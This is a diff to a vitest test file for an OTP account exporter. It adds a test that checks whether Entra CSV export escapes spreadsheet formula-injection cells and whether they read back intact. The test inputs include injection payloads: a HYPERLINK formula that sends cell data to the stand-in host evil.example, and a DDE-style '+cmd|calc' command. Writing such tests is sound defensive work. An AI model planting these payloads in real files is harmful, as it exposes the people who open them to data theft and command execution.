@@ -1,7 +1,7 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { type Account, newAccount, type ValidAccount } from '../accounts';
-import { parseImport } from '../import/index';
-import { exportEntraCsv, exportFile, exportOtpauthLinks } from './index';
+import { exportEntraCsv, exportFile, exportOtpauthLinks, parseImport } from './index';
 
 function account(valid: Partial<ValidAccount> & Pick<ValidAccount, 'name' | 'secret'>, id: string): Account {
   return newAccount({ issuer: '', notes: '', digits: 6, period: 30, algorithm: 'SHA1', ...valid }, id, 0);
@@ -65,6 +65,25 @@ describe('export → import round trips', () => {
     expect(reparsed.valid.map((a) => [a.name, a.notes])).toEqual([
       ['token@contoso.com', 'Serial number: 42 · Manufacturer: Contoso, Ltd. · Model: "K1"'],
     ]);
+  });
+
+  it.each([
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")@contoso.com',
+    '+cmd|calc!A0@contoso.com',
+    '-2+3@contoso.com',
+    '@SUM(1+1)@contoso.com',
+    '=1+1\nsecond line',
+  ])('Entra CSV: a cell a spreadsheet would run (%j) is escaped and read back as it was', async (name) => {
+    const token = account({ name, secret: 'JBSWY3DPEHPK3PXP', notes: 'Serial number: =1+1 · Model: @x' }, 'f');
+    const { text } = exportEntraCsv([token]);
+    const cells = Papa.parse<string[]>(text, { skipEmptyLines: true }).data[1] ?? [];
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(cells[0]).toBe(`'${name}`);
+    expect(cells[1]).toBe("'=1+1");
+    expect(cells[5]).toBe("'@x");
+    const parse = await parseImport(text);
+    expect(parse.invalid).toEqual([]);
+    expect(parse.valid.map((a) => [a.name, a.notes])).toEqual([[name.trim(), 'Serial number: =1+1 · Model: @x']]);
   });
 
   it('names export files by kind and date', () => {
